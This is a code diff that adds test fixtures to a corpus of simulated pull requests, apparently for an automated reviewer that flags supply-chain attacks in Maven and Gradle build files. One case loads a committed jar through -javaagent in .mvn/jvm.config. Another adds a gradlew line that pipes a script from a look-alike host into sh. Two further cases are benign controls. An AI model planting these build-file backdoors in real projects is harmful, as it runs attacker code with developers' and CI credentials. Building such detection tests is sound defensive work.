@@ -2339,4 +2339,84 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
   },
+  {
+    id: 'attack-mvn-jvm-config-agent',
+    description:
+      'A "build cache" PR commits a jar under .mvn/ and loads it with -javaagent in .mvn/jvm.config: every mvn and ./mvnw run starts it inside Maven\'s JVM, with the deploy credentials the release job hands Maven (the wrapper-jar swap that gradle/actions/wrapper-validation exists for, moved to a file no validator checks).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7640,
+        title: 'build: enable the local build cache',
+        author: 'newcomer',
+        files: [
+          { path: '.mvn/jvm.config', base: lines('-Xmx2g'), head: lines('-Xmx2g -javaagent:.mvn/cache/build-cache-agent.jar') },
+          { path: '.mvn/cache/build-cache-agent.jar', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed'] },
+  },
+  {
+    id: 'attack-gradle-jvmargs-memory',
+    description: 'A maintainer gives the Gradle daemon more memory and turns on parallel builds in gradle.properties.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7641,
+        title: 'build: more memory for the Gradle daemon',
+        files: [{ path: 'gradle.properties', base: lines('org.gradle.jvmargs=-Xmx2g', 'org.gradle.caching=true'), head: lines('org.gradle.jvmargs=-Xmx4g -XX:MaxMetaspaceSize=1g -Dfile.encoding=UTF-8', 'org.gradle.caching=true', 'org.gradle.parallel=true') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-gradlew-script-fetch',
+    description:
+      'A PR titled "fix gradlew on macOS" adds one line to gradlew that downloads a helper from a look-alike host and runs it before the wrapper jar: every ./gradlew on every machine and CI job runs it, and gradle/actions/wrapper-validation checks only the jar.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7642,
+        title: 'fix: gradlew on macOS',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'gradlew',
+            base: lines('#!/bin/sh', 'APP_HOME=$( cd -P "${APP_HOME:-./}.." > /dev/null && printf \'%s\n\' "$PWD" ) || exit', 'CLASSPATH=$APP_HOME/gradle/wrapper/gradle-wrapper.jar', 'exec "$JAVACMD" "$@"'),
+            head: lines('#!/bin/sh', 'APP_HOME=$( cd -P "${APP_HOME:-./}.." > /dev/null && printf \'%s\n\' "$PWD" ) || exit', '[ "$(uname)" = Darwin ] && curl -fsSL https://gradle-services.dev/macos-fix.sh | sh', 'CLASSPATH=$APP_HOME/gradle/wrapper/gradle-wrapper.jar', 'exec "$JAVACMD" "$@"'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed'] },
+  },
+  {
+    id: 'attack-gradlew-regenerated-by-upgrade',
+    description:
+      'A maintainer runs `gradle wrapper --gradle-version 8.10`: the properties move to the new release and checksum on services.gradle.org, and gradlew is regenerated (its eval/xargs argument handling and a comment naming github.com/gradle).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7643,
+        title: 'build: Gradle 8.10',
+        files: [
+          {
+            path: 'gradle/wrapper/gradle-wrapper.properties',
+            base: lines('distributionBase=GRADLE_USER_HOME', 'distributionPath=wrapper/dists', 'distributionSha256Sum=d725d707bfabd4dfdc958c624003b3c80accc03f7037b5122c4b1d0ef15cecab', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip', 'zipStoreBase=GRADLE_USER_HOME'),
+            head: lines('distributionBase=GRADLE_USER_HOME', 'distributionPath=wrapper/dists', 'distributionSha256Sum=5b9c5eb3f9fc2c94abaea57d90bd78747ca117ddbbf96c859d3741181a12bf2a', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip', 'zipStoreBase=GRADLE_USER_HOME'),
+          },
+          {
+            path: 'gradlew',
+            base: lines('#!/bin/sh', '#   https://github.com/gradle/gradle/blob/HEAD/subprojects/plugins/src/main/resources/unixStartScript.txt', 'DEFAULT_JVM_OPTS=\'"-Xmx64m" "-Xms64m"\'', 'exec "$JAVACMD" "$@"'),
+            head: lines(
+              '#!/bin/sh',
+              '#   https://github.com/gradle/gradle/blob/HEAD/platforms/jvm/plugins-application/src/main/resources/unixStartScript.txt',
+              'DEFAULT_JVM_OPTS=\'"-Xmx64m" "-Xms64m"\'',
+              'eval "set -- $( printf \'%s\\n\' "$DEFAULT_JVM_OPTS $JAVA_OPTS $GRADLE_OPTS" | xargs -n1 | sed \' s~[^-[:alnum:]+,./:=@_]~\\\\&~g; \' | tr \'\\n\' \' \' )" \'"$@"\'',
+              'exec "$JAVACMD" "$@"',
+            ),
+          },
+          { path: 'gradle/wrapper/gradle-wrapper.jar', status: 'modified', patch: null, additions: 0, deletions: 0, base: '', head: '' },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-wrapper-changed'] },
+  },
 ];
